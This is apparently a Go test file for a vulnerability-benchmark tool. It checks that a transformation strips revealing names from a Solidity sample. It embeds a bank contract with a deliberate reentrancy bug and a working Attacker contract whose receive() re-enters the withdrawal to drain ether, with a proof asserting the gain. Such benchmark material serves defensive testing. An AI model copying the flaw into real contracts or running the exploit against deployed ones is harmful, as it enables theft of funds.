package minimalsanitized_test

import (
	"strings"
	"testing"

	"assay/internal/bench"
	"assay/internal/core/suite"
	"assay/internal/core/suite/evidence"
	"assay/internal/lang/transform"
	"assay/internal/lang/transform/minimalsanitized"
	"assay/internal/proof/verify"
	"assay/internal/test/solctest"
)

// A sample as in other suites: names, comments and the file name are telling.
const telling = `// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// @notice Vulnerable to reentrancy.
contract VulnerableBank {
    mapping(address => uint256) public victimFunds;
    uint256 public exploitCount;
    address attacker;

    function put() external payable {
        victimFunds[msg.sender] += msg.value;
    }

    // BUG: pays before it writes
    function unsafeTake() external {
        exploitCount++;
        (bool ok, ) = msg.sender.call{value: victimFunds[msg.sender]}("");
        require(ok, "not paid");
        victimFunds[msg.sender] = 0;
    }
}
`

const hidden = `// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./VulnerableBank.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
}

contract Attacker {
    VulnerableBank private immutable bank;

    constructor(VulnerableBank bank_) payable {
        bank = bank_;
    }

    function run() external {
        bank.put{value: 1 ether}();
        bank.unsafeTake();
    }

    receive() external payable {
        if (address(bank).balance >= 1 ether) bank.unsafeTake();
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    VulnerableBank private bank;
    Attacker private thief;

    function setUp() public {
        bank = new VulnerableBank();
        bank.put{value: 10 ether}();
        thief = new Attacker{value: 1 ether}(bank);
    }

    function test_Regular() public {
        bank.unsafeTake();
        require(bank.exploitCount() == 1 && bank.victimFunds(address(this)) == 0);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(thief).balance >= 6 ether);
    }

    function target() public view returns (address) {
        return address(bank);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    receive() external payable {}
}
`

// Telling parts are removed from the code, its twin, the file name and the proof, and
// the attack works as before.
func TestTellingSample(t *testing.T) {
	fixed := strings.Replace(strings.Replace(telling, "        victimFunds[msg.sender] = 0;\n", "", 1),
		"        (bool ok, ) = msg.sender.call{value: victimFunds[msg.sender]}", "        uint256 sum = "+
			"victimFunds[msg.sender];\n        victimFunds[msg.sender] = 0;\n        (bool ok, ) = msg.sender.call{value: sum}",
		1)
	half := func(key, text string, truth bench.Truth) *bench.Variant {
		return &bench.Variant{Key: key, Truth: truth, Task: bench.Task{Language: "solidity",
			Files: []bench.File{{Path: "VulnerableBank.sol", Text: text}}},
			RootCause: "VulnerableBank calls before it writes victimFunds"}
	}
	chain, err := transform.ParseChain("minimal-sanitized", []transform.Transformation{minimalsanitized.Transformation})
	if err != nil {
		t.Fatal(err)
	}
	r, err := transform.Apply(chain, 1, transform.Program{Variant: half("s/bank", telling, bench.Vulnerable),
		Twin:   half("s/bank+fixed", fixed, bench.Safe),
		Hidden: []bench.File{{Path: "Proof.sol", Text: hidden}}})
	if err != nil {
		t.Fatal(err)
	}
	v, f := r.Trees()
	for _, text := range []string{v["Bank.sol"], f["Bank.sol"]} {
		for _, word := range []string{"ulnerab", "ictim", "xploit", "nsafe", "eentran", "BUG"} {
			if text == "" || strings.Contains(text, word) {
				t.Errorf("it still says %q:\n%s", word, text)
			}
		}
	}
	// The host calls attacker() in the proof, so the name may be neither assigned nor
	// replaced; the note reports it.
	if !strings.Contains(r.Notes[0], "attacker") || r.Variant.RootCause != "Bank calls before it writes userFunds" {
		t.Errorf("note %q, root cause %q", r.Notes[0], r.Variant.RootCause)
	}
	if p := r.Hidden[0].Text; !strings.Contains(p, `import "./Bank.sol";`) || strings.Contains(p, "VulnerableBank") ||
		!strings.Contains(p, "function attacker()") || !strings.Contains(p, "contract Attacker") {
		t.Errorf("the proof is\n%s", p)
	}

	c := solctest.New(t)
	for name, x := range map[string]suite.Executable{
		"before": {Main: "VulnerableBank.sol", Vulnerable: map[string]string{"VulnerableBank.sol": telling,
			"Proof.sol": hidden}, Fixed: map[string]string{"VulnerableBank.sol": fixed, "Proof.sol": hidden}},
		"after": {Main: "Bank.sol", Vulnerable: v, Fixed: f},
	} {
		x.ID = "s/bank"
		x.Rules = evidence.Rules{Compiler: "0.8.30", Contract: r.Name("VulnerableBank"), Impact: "ether_gained",
			Minimum: "5000000000000000000", CapitalWei: "1000000000000000000"}
		cs, err := verify.Prepare(t.Context(), c, x)
		if err != nil {
			t.Fatal(err)
		}
		if e := cs.Run(t.Context(), c, nil, verify.Options{}).Evidence; !e.Proved {
			t.Errorf("%s: %q", name, e.Failures())
		}
	}
}
